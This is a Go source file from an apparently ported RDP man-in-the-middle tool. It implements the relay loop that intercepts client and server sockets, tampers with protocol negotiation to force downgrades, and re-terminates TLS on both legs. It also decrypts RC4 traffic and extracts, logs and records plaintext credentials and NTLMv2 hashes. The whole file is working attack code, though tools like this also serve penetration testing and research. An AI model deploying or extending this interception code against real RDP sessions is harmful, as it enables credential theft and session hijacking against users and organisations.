// Package relay implements the Relay Glue: the cooperative, per-session
// loop that accepts already-connected client/server sockets, drives the
// RDP Negotiation Request/Response handshake (with protocol downgrade and,
// if negotiated, a TLS upgrade of both legs), and then relays every
// subsequent PDU through the inspector and tamperer until either side
// closes, per spec sections 4.8 and 5.
//
// Go has no primitive for "block on whichever of two raw sockets is
// readable" the way the source tool's single-threaded select loop does;
// one reader goroutine per direction, each feeding its own connection's
// peer directly, is the idiomatic Go equivalent (grounded on the teacher's
// own goroutine-per-direction relay in internal/handler/connect.go's
// startBidirectionalRelay). RC4 decryption in Inspect is only ever called
// from the goroutine that owns that direction's rc4_client/rc4_server
// field, so no lock is needed across directions.
package relay

import (
	"context"
	"io"
	"net"
	"sync"

	"github.com/rcarmo/rdp-mitm/internal/config"
	"github.com/rcarmo/rdp-mitm/internal/downgrade"
	"github.com/rcarmo/rdp-mitm/internal/inspect"
	"github.com/rcarmo/rdp-mitm/internal/logging"
	"github.com/rcarmo/rdp-mitm/internal/session"
	"github.com/rcarmo/rdp-mitm/internal/tamper"
)

// Pipe runs one MITM connection end to end. It blocks until both sockets
// are drained or closed; callers run it per accepted connection (typically
// in its own goroutine), per spec section 7's "a session-level failure
// does not terminate the process."
func Pipe(ctx context.Context, client, server net.Conn, cfg *config.Config) error {
	sess := session.New(client, server)
	defer sess.Close()

	if err := negotiate(sess, cfg); err != nil {
		return err
	}

	relayLoop(ctx, sess, cfg)
	return nil
}

// negotiate drives the single client-request/server-response exchange that
// establishes (possibly downgraded) protocol negotiation, then upgrades
// both legs to TLS if the negotiated protocol calls for it.
func negotiate(sess *session.Session, cfg *config.Config) error {
	clientReader := newPDUReader(sess.ClientConn)
	request, err := clientReader.Next()
	if err != nil {
		return err
	}

	_, findings := inspect.Inspect(sess, session.ClientToServer, request)
	tampered := tamper.Tamper(sess, session.ClientToServer, request, findings, cfg.Target.Downgrade)
	if _, err := sess.ServerConn.Write(tampered); err != nil {
		return err
	}

	serverReader := newPDUReader(sess.ServerConn)
	response, err := serverReader.Next()
	if err != nil {
		return err
	}
	_, respFindings := inspect.Inspect(sess, session.ServerToClient, response)
	respTampered := tamper.Tamper(sess, session.ServerToClient, response, respFindings, cfg.Target.Downgrade)
	if _, err := sess.ClientConn.Write(respTampered); err != nil {
		return err
	}

	if sess.ProtocolNegotiated != session.ProtocolStandardRDP {
		newClient, newServer, err := downgrade.UpgradeTLS(sess.ClientConn, sess.ServerConn, cfg.TLS.CertFile, cfg.TLS.KeyFile)
		if err != nil {
			return err
		}
		sess.ClientConn = newClient
		sess.ServerConn = newServer
	}
	return nil
}

// relayLoop runs the two direction pumps concurrently until either side's
// read returns empty/errors, per spec section 5's cancellation rule: any
// empty read terminates the session and releases both sockets.
func relayLoop(ctx context.Context, sess *session.Session, cfg *config.Config) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	// Closing both sockets, not just cancelling ctx, is what actually
	// unblocks a pump goroutine parked in a blocking Read on the other
	// direction's socket: net.Conn has no context-aware Read, so the one
	// sure way to wake up the peer pump is to sever the connection it is
	// reading from. This is spec section 5's "any read returning empty
	// terminates the session and releases both sockets," applied to both
	// directions at once rather than just the one that detected EOF.
	var cancelOnce sync.Once
	safeCancel := func() {
		cancelOnce.Do(func() {
			cancel()
			sess.Close()
		})
	}

	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		defer safeCancel()
		pump(ctx, sess, session.ClientToServer, cfg)
	}()

	pump(ctx, sess, session.ServerToClient, cfg)
	safeCancel()
	wg.Wait()
}

// pump reads framed PDUs from one direction's source socket, inspects and
// tampers each, logs any findings in red, and forwards the result to the
// peer socket. It runs until ctx is cancelled or a read/write fails.
func pump(ctx context.Context, sess *session.Session, dir session.Direction, cfg *config.Config) {
	src, dst := sess.ClientConn, sess.ServerConn
	if dir == session.ServerToClient {
		src, dst = sess.ServerConn, sess.ClientConn
	}

	reader := newPDUReader(src)
	for {
		select {
		case <-ctx.Done():
			return
		default:
		}

		pdu, err := reader.Next()
		if err != nil {
			if err != io.EOF {
				logging.Debug("relay %s: %v", dir, err)
			}
			return
		}

		// Inspect decrypts a copy for signature scanning; what gets
		// forwarded is the original ciphertext (tampered where a rule
		// fires), since the peer keeps its own RC4 state in sync with the
		// originator's. Every PDU the tamperer rewrites is sent before
		// encryption starts, so tampering the original bytes is safe.
		_, findings := inspect.Inspect(sess, dir, pdu)
		out := tamper.Tamper(sess, dir, pdu, findings, cfg.Target.Downgrade)

		logFindings(findings)
		recordFindings(sess, dir, findings)

		if _, err := dst.Write(out); err != nil {
			logging.Debug("relay %s: write: %v", dir, err)
			return
		}
	}
}

func logFindings(findings inspect.Findings) {
	if findings.Credential != nil {
		logging.Finding("%s", findings.Credential.String())
	}
	if findings.NTLMv2 != nil {
		logging.Finding("%s", findings.NTLMv2.String())
	}
}

// recordFindings mirrors any credential/hash extraction into the session's
// findings ring (see internal/session.FindingRecord) so callers can assert
// on recent findings by value instead of scraping stdout.
func recordFindings(sess *session.Session, dir session.Direction, findings inspect.Findings) {
	if findings.Credential == nil && findings.NTLMv2 == nil {
		return
	}

	var cred, ntlm string
	if findings.Credential != nil {
		cred = findings.Credential.String()
	}
	if findings.NTLMv2 != nil {
		ntlm = findings.NTLMv2.String()
	}
	sess.RecordFinding(dir, cred, ntlm)
}
